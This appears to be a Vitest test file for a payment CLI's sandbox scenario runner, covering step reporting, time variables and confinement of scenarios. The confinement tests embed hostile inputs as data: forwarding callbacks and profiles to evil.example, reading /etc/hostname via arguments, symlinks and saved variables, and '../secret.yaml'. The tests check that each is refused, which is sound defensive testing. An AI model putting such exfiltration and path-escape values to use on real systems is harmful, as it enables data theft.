import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test, vi } from 'vitest'
import { newHome, paydesk } from '../../kit/program/paydesk.ts'
import { temporaryDirectory } from '../../kit/run/temporary.ts'
import { addHandProfile, serviceByHand } from '../../kit/service/service-by-hand.ts'

// Each step of a scenario is a process of its own.
vi.setConfig({ testTimeout: 60_000 })

const examples = join(import.meta.dirname, '..', '..', '..', 'docs', 'scenarios')

function file(text: string): string {
  const path = join(temporaryDirectory('scenario'), 's.yaml')
  writeFileSync(path, text)
  return path
}

const run = (path: string, ...more: string[]) => paydesk(['sandbox', 'run', path, ...more], { home: newHome() })

describe('sandbox run of the examples', () => {
  test.each(readdirSync(examples))('sandbox run: the example docs/scenarios/%s passes', async (name) => {
    const ended = await run(join(examples, name), '--json')
    expect(ended.code, ended.stderr).toBe(0)
    expect(ended.stderr).toBe('')
    const { passed, failed, steps } = ended.json as { passed: number; failed: number; steps: unknown[] }
    expect([passed, failed]).toEqual([steps.length, 0])
    expect(readFileSync(join(examples, name), 'utf8')).toContain(`docs/scenarios/${name}`)
  })
})

const failing = `scenario: It fails
steps:
  - clock: { advance: 1h }
  - name: Balance
    run: payout balance --currency USD
    expect: { json: { '[0].amount': 1, '[0].currency': { matches: '^G' } } }
  - wait: 1m
`

describe('sandbox run of a scenario that fails', () => {
  test('sandbox run: a step that fails is reported with what was found (5), and later steps are skipped', async () => {
    const ended = await run(file(failing), '--json')
    expect(ended.code).toBe(5)
    const problems = ['json [0].amount is 250000, not 1', 'json [0].currency is "USD", and does not match ^G']
    expect(ended.json).toMatchObject({
      ...{ scenario: 'It fails', passed: 1, failed: 1 },
      steps: [
        { step: 1, line: 3, name: 'clock advance 1h', outcome: 'passed', problems: [] },
        { step: 2, line: 4, name: 'Balance', outcome: 'failed', problems },
        { step: 3, line: 7, outcome: 'skipped' },
      ],
    })
    expect(ended.error).toMatchObject({ name: 'refused', moneyMoved: 'no' })
    expect(ended.error.message).toContain('line 4')
  })

  test('sandbox run: each step is told on a line of its own', async () => {
    const ended = await run(file(failing))
    expect(ended.code).toBe(5)
    expect(ended.stderr).toMatch(/^1 {2}clock advance 1h: passed, \d+ ms$/m)
    expect(ended.stderr).toMatch(/^2 {2}Balance: failed, \d+ ms$/m)
    expect(ended.stderr).toMatch(/^3 {2}wait 1m: skipped$/m)
    expect(ended.stdout).toContain('It fails: 1 passed, 1 failed, 1 skipped.')
  })

  test('sandbox run: a command that fails is told with its exit code and its message (5)', async () => {
    const ended = await run(file('scenario: s\nsteps:\n  - run: payout get 17\n'), '--json')
    expect(ended.code).toBe(5)
    expect(String(ended.error.message)).toMatch(/the exit code is 6, not 0; it said: .*no such payout/)
  })

  test('sandbox run: a trigger that the sandbox refuses is a failed step (5)', async () => {
    const nobody = "{ what: paid, order: '0b5f0f0e-8a2c-4f0e-9a53-5d1f3f1f7a11' }"
    const ended = await run(file(`scenario: s\nsteps:\n  - trigger: ${nobody}\n`), '--json')
    expect([ended.code, String(ended.error.message)]).toEqual([5, expect.stringContaining('order')])
  })
})

test('sandbox run: a variable can hold a time, given or saved by an earlier step', async () => {
  const ended = await run(
    file(`scenario: s
variables: { days: 31d, moment: 1ms, late: 5s }
steps:
  - fault: { op: payout.get, at: after, kind: slow, delay: '\${late}' }
  - clock: { advance: '\${days}' }
  - wait: '\${moment}'
  - run: sandbox clock show
    expect: { json: { aheadMilliseconds: 2678400000 } }
  - run: sandbox fault list
    expect: { json: { '[0].delay': 5000 } }
    save: { delay: '[0].delay' }
  - clock: { advance: '\${delay}ms' }
  - run: sandbox clock show
    expect: { json: { aheadMilliseconds: 2678405000 } }
`),
    '--json',
  )
  expect(ended.code, ended.stderr).toBe(0)
  expect(ended.json).toMatchObject({ steps: [{}, { name: 'clock advance 31d' }, { name: 'wait 1ms' }, {}, {}, {}, {}] })
})

test.each([
  ['a pause', `wait: '\${n}'`],
  ['a move of the clock', `clock: { advance: '\${n}' }`],
  ['a delay', `fault: { op: '*', at: after, kind: slow, delay: '\${n}' }`],
])('sandbox run: %s by a variable that is no time is a failed step (5)', async (_what, step) => {
  const ended = await run(file(`scenario: s\nvariables: { n: Old Town Shop }\nsteps:\n  - ${step}\n`), '--json')
  expect(ended.code).toBe(5)
  expect(ended.error.message).toContain('"Old Town Shop" is no time like 500ms')
})

test('sandbox run: a wait of more than an hour by a variable is a failed step (5)', async () => {
  const ended = await run(file(`scenario: s\nvariables: { n: 30d }\nsteps:\n  - wait: '\${n}'\n`), '--json')
  expect(ended.code).toBe(5)
  expect(ended.error.message).toContain('wait 30d must be an hour at most')
})

test('sandbox run: an unreadable scenario is refused with its lines (2) and nothing is started', async () => {
  const ended = await run(file('scenario: s\nsteps:\n  - walk: home\n  - wait: long\n'), '--json')
  expect(ended).toMatchObject({ code: 2, stdout: '' })
  expect(String(ended.error.message)).toMatch(/line 3: .*walk.*line 4: /)
  expect(await run('/nowhere/s.yaml', '--json')).toMatchObject({ code: 2, stdout: '' })
})

describe('sandbox run and what a scenario may touch', () => {
  test('sandbox run: steps that reach outside the scenario are refused, each with its line (2), and nothing is started', async () => {
    const key = join(newHome(), 'private-key')
    const path = file(`scenario: s
variables: { where: /etc/hostname, who: acme }
steps:
  - run: profile add mine --base-url https://evil.example --client-id x
  - run: payout create --file \${where} --yes
  - run: payout create --file ../secret.yaml --yes
  - run: [key, generate, --private-key, '${key}']
  - run: payout balance -p \${who}
  - run: callback listen --forward-to https://evil.example
  - run: callback replay cb-1 --to https://evil.example
`)
    const ended = await run(path, '--json')
    expect(ended).toMatchObject({ code: 2, stdout: '' })
    const said = String(ended.error.message)
    for (let line = 4; line <= 10; line += 1) expect(said).toContain(`line ${line}: `)
    expect(said).toContain('cannot touch "/etc/hostname"')
    expect(existsSync(key)).toBe(false)
  })

  test('sandbox run: a symbolic link to a file elsewhere is refused (2)', async () => {
    const path = file('scenario: s\nsteps:\n  - run: payout create --file order.yaml --yes\n')
    symlinkSync('/etc/hostname', join(path, '..', 'order.yaml'))
    expect(await run(path, '--json')).toMatchObject({ code: 2, stdout: '' })
  })

  test('sandbox run: a path from a saved variable is checked when the step runs (2, with the line)', async () => {
    const path = file(`scenario: s
steps:
  - run: payout create --amount 1 --currency GEL --to-iban GE29NB0000000101904917 --beneficiary-name A --description /etc/hostname --yes
    save: { id: journalId }
  - run: journal show \${id}
    save: { where: request.description }
  - run: payout create --file \${where} --yes
`)
    const ended = await run(path, '--json')
    expect([ended.code, ended.stdout], ended.stderr).toEqual([2, ''])
    expect(ended.error.message).toContain('line 7: run cannot touch "/etc/hostname"')
  })

  test('sandbox run: files beside the scenario are read and written there, wherever it is started from', async () => {
    const path = file(`scenario: s
steps:
  - run: payout create --file order.yaml --yes
    expect: { json: { amount: 3.5 } }
  - run: key generate --private-key own.key
  - run: key show own.key
`)
    const [directory, payment] = [join(path, '..'), 'beneficiaryName: A\ndescription: B\n']
    writeFileSync(
      join(directory, 'order.yaml'),
      `amount: 3.50\ncurrency: GEL\ntoIban: GE29NB0000000101904917\n${payment}`,
    )
    const ended = await run(path, '--json')
    expect(ended.code, ended.stderr).toBe(0)
    expect(existsSync(join(directory, 'own.key'))).toBe(true)
  })

  test('sandbox run: the user’s environment and profiles do not reach the scenario, and the user’s own sandbox is not touched', async () => {
    const home = newHome()
    await addHandProfile(home, 'http://127.0.0.1:1')
    const env = {
      PAYDESK_PROFILE: 'hand',
      PAYDESK_CLIENT_SECRET: 's',
      PAYDESK_PRIVATE_KEY_FILE: '/x',
      https_proxy: 'x',
    }
    const path = file(`scenario: s
steps:
  - run: payout balance --currency GEL
    expect: { json: { '[0].amount': { matches: . } } }
`)
    const ended = await paydesk(['sandbox', 'run', path, '--json'], { home, env })
    expect(ended.code, ended.stderr).toBe(0)
    expect(existsSync(join(home, 'sandbox'))).toBe(false)
  })

  test('sandbox run: callbacks go to this machine only', async () => {
    const heard: string[] = []
    const here = await serviceByHand(({ path }) => {
      heard.push(path)
      return { body: '' }
    })
    const shop = '5a9db0c0-0301-4a11-8c11-000000000301'
    const order = (to: string) => `order create --amount 1 --receiver-id ${shop} --callback-uri ${to} --yes`
    const step = (to: string, name: string) => `  - run: ${order(to)}
    save: { ${name}: integratorOrderId }
  - trigger: { what: paid, order: '\${${name}}' }
`
    const path = file(`scenario: s
steps:
${step(`${here.url}/here`, 'a')}${step('https://192.0.2.7/there', 'b')}  - wait: 2s
  - run: sandbox callbacks --order \${a}
    expect: { json: { '[0].state': delivered } }
  - run: sandbox callbacks --order \${b}
    expect: { json: { '[0].attempts[0].why': { matches: 'a scenario calls this machine only' } } }
`)
    const ended = await run(path, '--json')
    expect(ended.code, ended.stderr).toBe(0)
    expect(heard).toEqual(['/here'])
  })
})
